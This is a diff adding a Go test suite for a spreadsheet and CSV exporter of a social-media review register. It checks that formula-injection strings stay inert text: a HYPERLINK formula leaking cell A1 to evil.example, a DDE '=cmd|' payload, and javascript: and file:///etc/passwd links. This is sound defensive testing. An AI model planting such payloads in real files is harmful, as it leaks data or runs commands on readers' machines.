@@ -1,21 +1,801 @@
 package workbook
 
 import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"encoding/xml"
+	"errors"
+	"flag"
+	"fmt"
+	"image/jpeg"
+	"io"
+	"iter"
 	"os"
+	"path"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
 	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/xuri/excelize/v2"
+
+	"pagerisk/classify"
+	"pagerisk/report"
+	"pagerisk/scanner"
 )
 
-func TestLook(t *testing.T) {
-	dir := os.Getenv("LOOK")
-	if dir == "" {
-		dir = t.TempDir()
+var update = flag.Bool("update", false, "rewrite the golden files")
+
+func write(t testing.TB, w Writer, r *report.Register) string {
+	t.Helper()
+	dir := t.TempDir()
+	if err := w.Write(t.Context(), dir, r); err != nil {
+		t.Fatal(err)
 	}
-	for _, lang := range []string{"de", "en"} {
-		d := dir + "/" + lang
-		os.MkdirAll(d, 0o700)
-		os.Remove(d + "/register.xlsx")
-		if err := (Writer{}).Write(t.Context(), d, synthetic(lang, 400)); err != nil {
+	return filepath.Join(dir, FileName)
+}
+
+func open(t testing.TB, path string) *excelize.File {
+	t.Helper()
+	f, err := excelize.OpenFile(path, excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { f.Close() })
+	return f
+}
+
+// readParts unpacks a workbook.
+func readParts(t testing.TB, path string) map[string]string {
+	t.Helper()
+	zr, err := zip.OpenReader(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer zr.Close()
+	out := make(map[string]string)
+	for _, f := range zr.File {
+		rc, err := f.Open()
+		if err != nil {
 			t.Fatal(err)
+		}
+		data, err := io.ReadAll(rc)
+		rc.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		out[f.Name] = string(data)
+	}
+	return out
+}
+
+// withFixedRisks makes a register independent of how risks are weighed, which other tests hold.
+func withFixedRisks(r *report.Register) {
+	rows := r.Rows
+	r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
+		return func(yield func(*report.Row, error) bool) {
+			n := 0
+			for row, err := range rows(ctx) {
+				if row != nil && row.Risk != nil {
+					n++
+					row.Risk = &report.Risk{
+						View: report.Persons, Heaviest: row.Findings[0].Label, Ground: report.Unknown, Period: report.BeforeTraining,
+						Today: report.Rating{Likelihood: 1 + n%4, Severity: 1 + (n/2)%4}, Scenarios: []string{"R-01"},
+					}
+				}
+				if !yield(row, err) {
+					return
+				}
+			}
+		}
+	}
+}
+
+// TestGolden holds what a person sees and what a program would trip over: sheets, panes, cells with type and format,
+// formulas with their results, drop-downs, conditional formats, names. A change of the golden file is to be read.
+func TestGolden(t *testing.T) {
+	for _, lang := range report.Languages {
+		t.Run(lang, func(t *testing.T) {
+			got := dump(t, write(t, Writer{}, synthetic(lang, 9, withFixedRisks)))
+			file := filepath.Join("testdata", "workbook_"+lang+".txt")
+			if *update {
+				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			want, err := os.ReadFile(file)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(strings.Split(string(want), "\n"), strings.Split(got, "\n")); diff != "" {
+				t.Errorf("workbook differs from %s (-want +got), rewrite with -update:\n%s", file, diff)
+			}
+		})
+	}
+}
+
+// dumped are the sheets whose cells are in the golden file, with the number of rows. What the legal catalogue and the
+// scenarios say is held by their own tests.
+var dumped = map[string]int{"overview": 60, "findings": 10, "objection": 10, "media": 4, "inventory": 5, "analysis": 40, "audit": 60, "risks": 1, "lists": 60, "meta": 12, "guide": 8}
+
+func dump(t *testing.T, path string) string {
+	f := open(t, path)
+	var out strings.Builder
+	p := func(format string, args ...any) { fmt.Fprintf(&out, format+"\n", args...) }
+	texts := report.NewTexts(map[bool]string{true: "de", false: "en"}[f.GetSheetName(0) == "Übersicht"])
+	for _, name := range f.GetDefinedName() {
+		p("name %s %s = %s", name.Scope, name.Name, name.RefersTo)
+	}
+	for _, sheet := range f.GetSheetList() {
+		visible, _ := f.GetSheetVisible(sheet)
+		panes, _ := f.GetPanes(sheet)
+		layout, _ := f.GetPageLayout(sheet)
+		protection, _ := f.GetSheetProtection(sheet)
+		p("sheet %q visible=%v frozen=%v %d/%d paper=%d %s protected=%v filter=%v", sheet, visible, panes.Freeze, panes.XSplit, panes.YSplit, *layout.Size, *layout.Orientation, protection.SelectLockedCells, protection.AutoFilter)
+		tables, _ := f.GetTables(sheet)
+		for _, table := range tables {
+			p("  table %s %s", table.Name, table.Range)
+		}
+		dvs, _ := f.GetDataValidations(sheet)
+		for _, dv := range dvs {
+			p("  check %s %s %s %s", dv.Sqref, dv.Type, dv.Formula1, dv.Formula2)
+		}
+		cfs, _ := f.GetConditionalFormats(sheet)
+		for _, area := range slices.Sorted(mapKeys(cfs)) {
+			for _, cf := range cfs[area] {
+				p("  when %s %s", area, cf.Criteria)
+			}
+		}
+		code := ""
+		for c := range dumped {
+			if texts.Say("wb.sheet."+c) == sheet {
+				code = c
+			}
+		}
+		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for y, row := range rows[:min(len(rows), dumped[code])] {
+			for x, value := range row {
+				ref := cell(x+1, y+1)
+				formula, _ := f.GetCellFormula(sheet, ref)
+				if value == "" && formula == "" {
+					continue
+				}
+				p("  %s %s %s%s", ref, styleOf(f, sheet, ref), strconv.Quote(value), map[bool]string{true: " = " + formula}[formula != ""])
+			}
+		}
+	}
+	return out.String()
+}
+
+func mapKeys[V any](m map[string]V) iter.Seq[string] {
+	return func(yield func(string) bool) {
+		for k := range m {
+			if !yield(k) {
+				return
+			}
+		}
+	}
+}
+
+// styleOf is the format of a cell in short: open or locked, fill, number format.
+func styleOf(f *excelize.File, sheet, ref string) string {
+	id, err := f.GetCellStyle(sheet, ref)
+	if err != nil || id == 0 {
+		return "-"
+	}
+	st, err := f.GetStyle(id)
+	if err != nil {
+		return "?"
+	}
+	s := "locked"
+	if st.Protection != nil && !st.Protection.Locked {
+		s = "open"
+	}
+	if len(st.Fill.Color) > 0 {
+		s += "," + st.Fill.Color[0]
+	}
+	if st.CustomNumFmt != nil {
+		s += "," + *st.CustomNumFmt
+	} else if st.NumFmt != 0 {
+		s += "," + strconv.Itoa(st.NumFmt)
+	}
+	return s
+}
+
+// The same register gives the same bytes, whenever and wherever it is written.
+func TestSameBytes(t *testing.T) {
+	a, err := os.ReadFile(write(t, Writer{}, synthetic("de", 60)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for range 3 { // the order of a map can be the same once
+		b, err := os.ReadFile(write(t, Writer{}, synthetic("de", 60)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !bytes.Equal(a, b) {
+			t.Fatal("two workbooks of one register differ")
+		}
+	}
+}
+
+// worksheetOrder is the order of elements that the schema of worksheets demands.
+var worksheetOrder = []string{
+	"sheetPr", "dimension", "sheetViews", "sheetFormatPr", "cols", "sheetData", "sheetCalcPr", "sheetProtection", "protectedRanges", "scenarios", "autoFilter",
+	"sortState", "dataConsolidate", "customSheetViews", "mergeCells", "phoneticPr", "conditionalFormatting", "dataValidations", "hyperlinks", "printOptions",
+	"pageMargins", "pageSetup", "headerFooter", "rowBreaks", "colBreaks", "customProperties", "cellWatches", "ignoredErrors", "smartTags", "drawing",
+	"legacyDrawing", "legacyDrawingHF", "picture", "oleObjects", "controls", "webPublishItems", "tableParts", "extLst",
+}
+
+func TestXML(t *testing.T) {
+	for _, lang := range report.Languages {
+		for _, n := range []int{0, 1, 4, 130} {
+			t.Run(fmt.Sprintf("%s_%d", lang, n), func(t *testing.T) {
+				checkParts(t, readParts(t, write(t, Writer{}, synthetic(lang, n))))
+			})
+		}
+	}
+}
+
+// checkParts holds every part of a workbook against what makes Excel repair a file, and against what must not be in it.
+func checkParts(t *testing.T, parts map[string]string) {
+	t.Helper()
+	names := map[string]bool{}
+	for _, m := range regexp.MustCompile(`<definedName [^>]*name="([^"]+)"`).FindAllStringSubmatch(parts["xl/workbook.xml"], -1) {
+		names[m[1]] = true
+	}
+	for name, data := range parts {
+		if strings.HasSuffix(name, ".xml") || strings.HasSuffix(name, ".rels") {
+			dec := xml.NewDecoder(strings.NewReader(data))
+			for {
+				if _, err := dec.Token(); err == io.EOF {
+					break
+				} else if err != nil {
+					t.Fatalf("%s: %v", name, err)
+				}
+			}
+		}
+		if strings.HasSuffix(name, ".bin") || strings.Contains(name, "externalLink") || strings.Contains(name, "vba") {
+			t.Errorf("part %q must not be there", name)
+		}
+		for _, bad := range []string{"[wb.", "[list.", "[returned.", "[risk.", "[scenario.", "<no value>", "/tmp/", "/home/", "/root", "access_token", "EAAB", "TargetMode=\"External\"", "IMAGE(", "WEBSERVICE("} {
+			if i := strings.Index(data, bad); i >= 0 {
+				t.Errorf("%s holds %q: …%s…", name, bad, data[max(0, i-60):min(len(data), i+60)])
+			}
+		}
+		if strings.HasSuffix(name, ".rels") {
+			checkRelations(t, parts, name, data)
+		}
+		if strings.HasPrefix(name, "xl/worksheets/sheet") {
+			checkWorksheet(t, name, data, names)
+		}
+	}
+	for _, m := range regexp.MustCompile(`<sheet name="([^"]*)"`).FindAllStringSubmatch(parts["xl/workbook.xml"], -1) {
+		if n := len([]rune(m[1])); n > 31 || strings.ContainsAny(m[1], `:\/?*[]`) || strings.EqualFold(m[1], "history") {
+			t.Errorf("sheet name %q", m[1])
+		}
+	}
+	checkTables(t, parts)
+}
+
+func checkRelations(t *testing.T, parts map[string]string, name, data string) {
+	t.Helper()
+	dir := path.Dir(path.Dir(name))
+	for _, m := range regexp.MustCompile(`Target="([^"]+)"`).FindAllStringSubmatch(data, -1) {
+		target := strings.TrimPrefix(m[1], "/")
+		if !strings.HasPrefix(m[1], "/") {
+			target = path.Join(dir, m[1])
+		}
+		if _, ok := parts[target]; !ok {
+			t.Errorf("%s: target %q is not there", name, m[1])
+		}
+	}
+}
+
+func checkWorksheet(t *testing.T, name, data string, names map[string]bool) {
+	t.Helper()
+	dec := xml.NewDecoder(strings.NewReader(data))
+	depth, last := 0, -1
+	for {
+		tok, err := dec.Token()
+		if err != nil {
+			break
+		}
+		switch el := tok.(type) {
+		case xml.StartElement:
+			if depth == 1 {
+				at := slices.Index(worksheetOrder, el.Name.Local)
+				if at < last {
+					t.Errorf("%s: <%s> stands behind <%s>", name, el.Name.Local, worksheetOrder[last])
+				}
+				last = max(last, at)
+			}
+			depth++
+		case xml.EndElement:
+			depth--
+		}
+	}
+	before := 0
+	for _, m := range regexp.MustCompile(`<col min="(\d+)" max="(\d+)"`).FindAllStringSubmatch(data, -1) {
+		from, _ := strconv.Atoi(m[1])
+		to, _ := strconv.Atoi(m[2])
+		if from <= before || to < from {
+			t.Errorf("%s: column %d comes behind column %d", name, from, before)
+		}
+		before = to
+	}
+	for _, m := range regexp.MustCompile(`<c r="([A-Z]+\d+)"[^>]*>(.*?)</c>`).FindAllStringSubmatch(data, -1) {
+		if !strings.Contains(m[2], "<f>") {
+			continue
+		}
+		value := regexp.MustCompile(`<v>(.*?)</v>`).FindStringSubmatch(m[2])
+		typed := strings.Contains(strings.SplitN(m[0], ">", 2)[0], `t="str"`)
+		number := regexp.MustCompile(`<f>(COUNTIFS|SUM\(|A[NUV]\d+\*|IF\(AND\()`).MatchString(m[2])
+		if value == nil && (!typed || number) {
+			t.Errorf("%s %s: a formula without a result: %s", name, m[1], m[2])
+		}
+		if number && typed {
+			t.Errorf("%s %s: the result of %s is a text", name, m[1], m[2])
+		}
+		if strings.Contains(m[2], "#REF") || strings.Contains(m[2], "INDIRECT") || strings.Contains(m[2], "TEXT(") || strings.Contains(m[2], "XLOOKUP") {
+			t.Errorf("%s %s: formula %s", name, m[1], m[2])
+		}
+	}
+	for _, m := range regexp.MustCompile(`(?s)<dataValidation .*?</dataValidation>`).FindAllString(data, -1) {
+		for attr, most := range map[string]int{"promptTitle": 32, "prompt": 255, "errorTitle": 32, "error": 225} {
+			if v := regexp.MustCompile(` ` + attr + `="([^"]*)"`).FindStringSubmatch(m); v != nil && len([]rune(v[1])) > most {
+				t.Errorf("%s: %s has %d characters, at most %d: %q", name, attr, len([]rune(v[1])), most, v[1])
+			}
+		}
+		if list := regexp.MustCompile(`type="list".*<formula1>(.*?)</formula1>`).FindStringSubmatch(m); list != nil && !names[list[1]] {
+			t.Errorf("%s: drop-down over %q, which is no name", name, list[1])
+		}
+	}
+	for _, m := range regexp.MustCompile(`<odd(?:Header|Footer)>(.*?)</odd`).FindAllStringSubmatch(data, -1) {
+		if n := len([]rune(m[1])); n > 255 {
+			t.Errorf("%s: head or foot of %d characters", name, n)
+		}
+	}
+	if !strings.Contains(data, "<sheetProtection") {
+		t.Errorf("%s is not protected", name)
+	}
+	if strings.Contains(data, "<hyperlink ") {
+		t.Errorf("%s has real hyperlinks", name)
+	}
+}
+
+// checkTables holds the heads of tables against the cells and each other.
+func checkTables(t *testing.T, parts map[string]string) {
+	t.Helper()
+	for name, data := range parts {
+		if !strings.HasPrefix(name, "xl/tables/") {
+			continue
+		}
+		seen := map[string]bool{}
+		for _, m := range regexp.MustCompile(`<tableColumn [^>]*name="([^"]*)"`).FindAllStringSubmatch(data, -1) {
+			if folded := strings.ToLower(m[1]); seen[folded] || m[1] == "" {
+				t.Errorf("%s: head %q twice or empty", name, m[1])
+			} else {
+				seen[folded] = true
+			}
+		}
+	}
+}
+
+// hostile are texts that attack a spreadsheet, the file or the reader.
+var hostile = []string{
+	`=HYPERLINK("http://evil.example/"&A1,"click")`, `=cmd|'/c calc'!A1`, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r\n=1+1", "＝1+1", "'=1", `"),HYPERLINK("https://evil.example","`,
+	"_x0041_bc", "a\x00b\x01c\x0b\x1f", "\u202egnp.exe", "]]>&<b>&amp;", strings.Repeat("ä", 40_000), strings.Repeat("Zeile\n", 300), "bad \xff\xfe utf8", "👩‍👩‍👧‍👦🏳️‍🌈", "{{.Item}} %d %s", "  vorn und hinten  ",
+	"https://www.facebook.com/x?access_token=EAABsecret", "\ufffe\uffff", "&P &N &D", "#REF!",
+}
+
+// Whatever stands in a page's texts: it stays text, in every field.
+func TestHostile(t *testing.T) {
+	r := synthetic("de", len(hostile)*2, func(r *report.Register) {
+		rows := r.Rows
+		r.Head.Organisation = hostile[0]
+		r.Head.Accounts[0].Name = "&P" + hostile[13] + strings.Repeat("x", 300)
+		r.Head.Sources = hostile
+		r.Rules[0].Why = hostile[0]
+		r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
+			return func(yield func(*report.Row, error) bool) {
+				i := 0
+				for row, err := range rows(ctx) {
+					s := hostile[i%len(hostile)]
+					i++
+					it := row.Item
+					it.Text, it.Album, it.Place, it.Account, it.Link, it.Permalink = s, s, s, s, s, s
+					it.Tags = []string{s, s}
+					it.Origins[0].Where = s
+					for j := range it.Media {
+						it.Media[j].File, it.Media[j].Alt, it.Media[j].URI = s, s, s
+						if row.Facts[j] != nil {
+							m := &row.Facts[j].Metadata
+							m.Creator, m.Credit, m.Copyright, m.Source, m.Instructions, m.Software, m.Taken = s, s, s, s, s, s, s
+							m.Persons = []string{s}
+							row.Facts[j].Missing = []string{s}
+						}
+					}
+					row.Decided = map[report.Field]report.Decision{}
+					for _, spec := range report.ReviewFields {
+						if spec.Kind == report.TextField {
+							row.Decided[spec.Field] = report.Decision{Value: s, Reviewer: s, Conflict: true, Against: s, AgainstBy: s, At: r.Head.Started}
+						}
+					}
+					for j := range row.Findings {
+						row.Findings[j].Evidence = append(row.Findings[j].Evidence, classify.Evidence{Rule: s, Field: "media[0].metadata." + s, Quote: s, Weight: 1})
+					}
+					if !yield(row, err) {
+						return
+					}
+				}
+			}
+		}
+		r.Notes = func(context.Context) iter.Seq2[scanner.Note, error] {
+			return func(yield func(scanner.Note, error) bool) {
+				for _, s := range hostile {
+					if !yield(scanner.Note{Code: scanner.CodeCorrupt, Where: s, Detail: s}, nil) {
+						return
+					}
+				}
+			}
+		}
+	})
+	file := write(t, Writer{}, r)
+	parts := readParts(t, file)
+	for name, data := range parts {
+		if !strings.HasPrefix(name, "xl/worksheets/sheet") {
+			continue
+		}
+		for _, m := range regexp.MustCompile(`<f>(.*?)</f>`).FindAllStringSubmatch(data, -1) {
+			if strings.Contains(m[1], "evil") || strings.Contains(m[1], "cmd|") || strings.Contains(m[1], "access_token") {
+				t.Errorf("%s: outside text in a formula: %s", name, m[1])
+			}
+		}
+		for _, bad := range []string{"\x00", "\x01", "\u202e"} {
+			if strings.Contains(data, bad) {
+				t.Errorf("%s holds %q", name, bad)
+			}
+		}
+		checkWorksheet(t, name, data, namesOf(parts))
+	}
+	f := open(t, file)
+	for _, sheet := range f.GetSheetList() {
+		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for y, row := range rows {
+			for x, v := range row {
+				if n := len([]rune(v)); n > 32_767 || strings.Count(v, "\n") > 253 {
+					t.Errorf("%s %s: %d characters, %d lines", sheet, cell(x+1, y+1), n, strings.Count(v, "\n"))
+				}
+			}
+		}
+	}
+	ret, err := Read(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ret.Altered > 0 {
+		t.Errorf("%d rows count as altered although nobody touched them", ret.Altered)
+	}
+}
+
+func namesOf(parts map[string]string) map[string]bool {
+	names := map[string]bool{}
+	for _, m := range regexp.MustCompile(`<definedName [^>]*name="([^"]+)"`).FindAllStringSubmatch(parts["xl/workbook.xml"], -1) {
+		names[m[1]] = true
+	}
+	return names
+}
+
+func TestSafeLink(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"https://www.facebook.com/page/posts/1", "https://www.facebook.com/page/posts/1"},
+		{"https://www.instagram.com/p/Cx/", "https://www.instagram.com/p/Cx/"},
+		{"https://www.facebook.com/story.php?story_fbid=1&id=2", "https://www.facebook.com/story.php?story_fbid=1&id=2"},
+		{"http://www.facebook.com/page", ""},
+		{"https://facebook.com.evil.example/", ""},
+		{"https://user:pw@www.facebook.com/", ""},
+		{"https://www.facebook.com:8443/", ""},
+		{"https://scontent.fbcdn.net/x.jpg?oh=1&oe=2", ""},
+		{"https://www.facebook.com/x?access_token=EAAB", ""},
+		{"javascript:alert(1)", ""},
+		{"file:///etc/passwd", ""},
+		{"", ""},
+	} {
+		if got := safeLink(tt.in); got != tt.want {
+			t.Errorf("safeLink(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestClean(t *testing.T) {
+	b := &book{t: report.NewTexts("de")}
+	for _, tt := range []struct{ in, want string }{
+		{"schön 🎉", "schön 🎉"},
+		{"a\r\nb\rc", "a\nb\nc"},
+		{"a\x00b\x1fc", "a b c"},
+		{"x\u202ey", "xy"},
+		{"bad \xff", "bad �"},
+	} {
+		if got := b.clean(tt.in); got != tt.want {
+			t.Errorf("clean(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+	long := b.clean(strings.Repeat("😀", 20_000))
+	if n := len(long); n > 4*16_000+200 || !strings.HasSuffix(long, b.say("cut")) {
+		t.Errorf("a text of 40,000 units was cut to %d bytes, ending in %q", n, long[len(long)-40:])
+	}
+}
+
+func TestExcerpt(t *testing.T) {
+	for _, tt := range []struct {
+		in   string
+		most int
+		want string
+	}{
+		{"kurz", 10, "kurz"},
+		{"Ein  Satz\nmit Umbruch", 100, "Ein Satz mit Umbruch"},
+		{"eins zwei drei vier", 12, "eins zwei …"},
+		{"abcdefghijklmnop", 5, "abcde …"},
+		{"ab👩‍👧x", 4, "ab …"},
+	} {
+		if got := excerpt(tt.in, tt.most); got != tt.want {
+			t.Errorf("excerpt(%q, %d) = %q, want %q", tt.in, tt.most, got, tt.want)
+		}
+	}
+}
+
+// A sheet that is full goes on in a second one that stands right behind it.
+func TestFullSheet(t *testing.T) {
+	file := write(t, Writer{rows: 20}, synthetic("de", 50))
+	list := open(t, file).GetSheetList()
+	want := []string{"Inventar", "Inventar (2)", "Inventar (3)"}
+	i := slices.Index(list, "Inventar")
+	if diff := cmp.Diff(want, list[i:i+3]); diff != "" {
+		t.Errorf("sheets (-want +got):\n%s", diff)
+	}
+	checkParts(t, readParts(t, file))
+	f := open(t, file)
+	keys := map[string]bool{}
+	for _, sheet := range want {
+		rows, err := f.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range rows[1:] {
+			keys[row[len(inventoryColumns)-1]] = true
+		}
+	}
+	if len(keys) != 50 {
+		t.Errorf("the inventory has %d items, want 50", len(keys))
+	}
+}
+
+// Pictures stay within the row that they belong to, so that a filter hides them with it, and equal ones are stored once.
+func TestPreviews(t *testing.T) {
+	same := thumbOf(3)
+	all := func(r *report.Register) {
+		rows := r.Rows
+		r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
+			return func(yield func(*report.Row, error) bool) {
+				i := 0
+				for row, err := range rows(ctx) {
+					if row.Number > 0 {
+						if i++; i%2 == 0 {
+							row.Thumb = same
+						}
+					}
+					if !yield(row, err) {
+						return
+					}
+				}
+			}
+		}
+	}
+	parts := readParts(t, write(t, Writer{Previews: 20}, synthetic("de", 150, all)))
+	pictures, drawing := map[string]string{}, ""
+	for name, data := range parts {
+		if strings.HasPrefix(name, "xl/media/") {
+			pictures[name] = data
+			cfg, err := jpeg.DecodeConfig(strings.NewReader(data))
+			if err != nil || cfg.Width > previewWidth || cfg.Height > previewHeight || len(data) > 4<<10 {
+				t.Errorf("%s: %d × %d, %d bytes, %v", name, cfg.Width, cfg.Height, len(data), err)
+			}
+		}
+		if strings.HasPrefix(name, "xl/drawings/drawing") && strings.Contains(data, "<xdr:pic>") {
+			drawing = data
+		}
+	}
+	anchors := regexp.MustCompile(`(?s)<xdr:twoCellAnchor.*?<xdr:row>(\d+)</xdr:row>.*?<xdr:row>(\d+)</xdr:row>.*?</xdr:twoCellAnchor>`).FindAllStringSubmatch(drawing, -1)
+	if len(anchors) != 20 {
+		t.Errorf("%d pictures, want 20", len(anchors))
+	}
+	for _, m := range anchors {
+		if m[1] != m[2] {
+			t.Errorf("a picture reaches from row %s into row %s", m[1], m[2])
+		}
+		if strings.Contains(m[0], `editAs="oneCell"`) || strings.Contains(m[0], `editAs="absolute"`) || !strings.Contains(m[0], `descr="Vorschau zum Eintrag B-`) {
+			t.Errorf("anchor %.300s", m[0])
+		}
+	}
+	if len(pictures) > 12 {
+		t.Errorf("%d picture files for 20 pictures of which half are equal", len(pictures))
+	}
+	blurred := readParts(t, write(t, Writer{Previews: 20}, synthetic("de", 150, all, func(r *report.Register) { r.Head.Redact = true })))
+	for name, data := range blurred {
+		if !strings.HasPrefix(name, "xl/media/") {
+			continue
+		}
+		for _, plain := range pictures {
+			if plain == data {
+				t.Errorf("%s is not blurred", name)
+			}
+		}
+		// What is left is a handful of dots, enlarged: neighbours hardly differ.
+		img, err := jpeg.Decode(strings.NewReader(data))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for x := 1; x < img.Bounds().Dx(); x++ {
+			r0, _, _, _ := img.At(x-1, 30).RGBA()
+			r1, _, _, _ := img.At(x, 30).RGBA()
+			if d := int(r0>>8) - int(r1>>8); d > 20 || d < -20 {
+				t.Errorf("%s: an edge at %d survived the blur (%d)", name, x, d)
+			}
+		}
+	}
+}
+
+// The overview's formulas count what people enter; their stored results are what the program counted. Here the formulas
+// are computed by excelize and held against the results.
+func TestStoredResults(t *testing.T) {
+	r := synthetic("de", 120, func(r *report.Register) {
+		log := r.Log
+		for i := 0; i < 120; i += 6 {
+			key := scanner.Key(fmt.Sprintf("fb:%d", 5000+i))
+			ds := []report.Decision{{Item: key, Field: report.FieldStatus, Value: []string{"no_risk", "confirmed", "ask"}[i/6%3]}}
+			if i%12 == 0 {
+				ds = append(ds, report.Decision{Item: key, Field: report.FieldLikelihood, Value: "4"}, report.Decision{Item: key, Field: report.FieldSeverity, Value: "1"})
+			}
+			if err := log.Append(context.Background(), ds); err != nil {
+				t.Fatal(err)
+			}
+		}
+	})
+	f := open(t, write(t, Writer{Previews: -1}, r))
+	compared := 0
+	for _, sheet := range []string{"Übersicht", "Auswertung", "Befunde"} {
+		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for y := range rows {
+			if sheet == "Befunde" && y > 25 {
+				break
+			}
+			for x, stored := range rows[y] {
+				ref := cell(x+1, y+1)
+				formula, err := f.GetCellFormula(sheet, ref)
+				if err != nil || formula == "" || stored == "" || strings.HasPrefix(formula, "HYPERLINK") || strings.Contains(formula, `"="`) {
+					continue
+				}
+				got, err := f.CalcCellValue(sheet, ref, excelize.Options{RawCellValue: true})
+				if err != nil {
+					t.Errorf("%s %s: %s: %v", sheet, ref, formula, err)
+					continue
+				}
+				if compared++; got != stored {
+					t.Errorf("%s %s: stored %q, computed %q by %s", sheet, ref, stored, got, formula)
+				}
+			}
+		}
+	}
+	if compared < 100 {
+		t.Errorf("only %d formulas were compared", compared)
+	}
+}
+
+func TestCSV(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"", ""},
+		{"abc", "abc"},
+		{"=1+1", "'=1+1"},
+		{"a;b", `"a;b"`},
+		{"a;=1", `"a;'=1"`},
+		{"a\n+1", "\"a\n'+1\""},
+		{`sagt "ja"`, `"sagt ""ja"""`},
+		{"＝1", "'＝1"},
+		{"@x", "'@x"},
+		{"1,5", `"1,5"`},
+	} {
+		if got := csvField(tt.in); got != tt.want {
+			t.Errorf("csvField(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+	dir := t.TempDir()
+	if err := (CSV{}).Write(t.Context(), dir, synthetic("de", 12)); err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(filepath.Join(dir, CSVName))
+	if err != nil {
+		t.Fatal(err)
+	}
+	text := string(data)
+	if !strings.HasPrefix(text, "\ufeffNr.;Datum;Plattform;Art;Beitrag;") || !strings.HasSuffix(text, "\r\n") || strings.Contains(text, "sep=") {
+		t.Errorf("the table begins %q", text[:80])
+	}
+	if n := strings.Count(text, "\r\n"); n != 6 {
+		t.Errorf("%d lines, want head and 5 rows", n)
+	}
+}
+
+// A write that fails leaves the folder as it was.
+func TestWriteFails(t *testing.T) {
+	dir := t.TempDir()
+	if err := (Writer{}).Write(t.Context(), dir, synthetic("de", 5)); err != nil {
+		t.Fatal(err)
+	}
+	before, err := os.ReadFile(filepath.Join(dir, FileName))
+	if err != nil {
+		t.Fatal(err)
+	}
+	broken := errors.New("broken")
+	r := synthetic("de", 5, func(r *report.Register) {
+		rows := r.Rows
+		walks := 0
+		r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
+			walks++
+			if walks < 2 {
+				return rows(ctx)
+			}
+			return func(yield func(*report.Row, error) bool) { yield(nil, broken) }
+		}
+	})
+	if err := (Writer{}).Write(t.Context(), dir, r); !errors.Is(err, broken) {
+		t.Errorf("Write: %v, want the error of the rows", err)
+	}
+	ctx, cancel := context.WithCancel(t.Context())
+	cancel()
+	if err := (Writer{}).Write(ctx, dir, synthetic("de", 5)); !errors.Is(err, context.Canceled) {
+		t.Errorf("Write: %v, want context.Canceled", err)
+	}
+	after, err := os.ReadFile(filepath.Join(dir, FileName))
+	if err != nil || !bytes.Equal(before, after) {
+		t.Errorf("the register that was there is not as before: %v", err)
+	}
+	if files, _ := os.ReadDir(dir); len(files) != 1 {
+		t.Errorf("files left behind: %v", files)
+	}
+}
+
+// The statement about the sample changes with what the reviewer says of it.
+func TestSampleStatement(t *testing.T) {
+	for _, tt := range []struct {
+		name                           string
+		population, drawn, seen, found int
+		want                           string
+	}{
+		{"none", 0, 0, 0, 0, "Es gibt keine Einträge"},
+		{"not drawn", 10, 0, 0, 0, "nicht gezogen"},
+		{"open", 1000, 59, 0, 0, "noch nicht durchgesehen: 59 von 1.000"},
+		{"partly", 1000, 59, 20, 0, "teilweise durchgesehen (20 von 59"},
+		{"done", 1000, 59, 59, 0, "höchstens 4,8 % der 1.000"},
+		{"found", 1000, 59, 59, 3, "3 mit Personen"},
+	} {
+		b := &book{t: report.NewTexts("de")}
+		b.fig.population, b.fig.sampled, b.fig.sampleSeen, b.fig.sampleFound = tt.population, tt.drawn, tt.seen, tt.found
+		if got := b.sampleStatement(); !strings.Contains(got, tt.want) {
+			t.Errorf("%s: %q, want …%s…", tt.name, got, tt.want)
 		}
 	}
 }
